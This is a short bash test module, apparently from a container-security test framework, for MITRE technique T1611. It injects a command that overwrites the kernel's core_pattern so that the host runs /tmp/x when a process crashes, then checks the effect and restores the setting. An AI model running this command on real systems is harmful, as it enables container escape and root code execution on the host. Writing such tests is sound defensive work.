# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1611
about="writes core_pattern, by which the host runs a program"
attack() { inject '
echo "|/tmp/x" > /proc/sys/kernel/core_pattern && echo written
'; }
effect() { grep -qx '|/tmp/x' /proc/sys/kernel/core_pattern; }
after() { echo core >/proc/sys/kernel/core_pattern; }
